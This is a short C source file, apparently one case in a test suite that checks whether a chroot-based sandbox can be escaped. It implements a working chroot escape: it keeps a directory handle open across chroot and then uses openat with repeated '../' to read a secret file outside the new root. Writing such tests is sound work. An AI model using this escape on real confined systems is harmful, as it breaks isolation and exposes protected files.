/* Leaves its root by a directory that it opened before a chroot(2) of its own. */
#include "../escape.h"

TRICK(chroot_open_directory) {
    int here = open(in_tmp("."), O_RDONLY | O_DIRECTORY);
    char path[700] = "";
    mkdir(in_tmp("inner"), 0755);
    TRY(chroot(in_tmp("inner")));
    for (int i = 0; i < 32; i++) strcat(path, "../");
    strcat(path, told("ESC_SECRET") + 1);
    int fd = openat(here, path, O_RDONLY);
    TRY(fd);
    return steal(fd, "openat(above the root)");
}
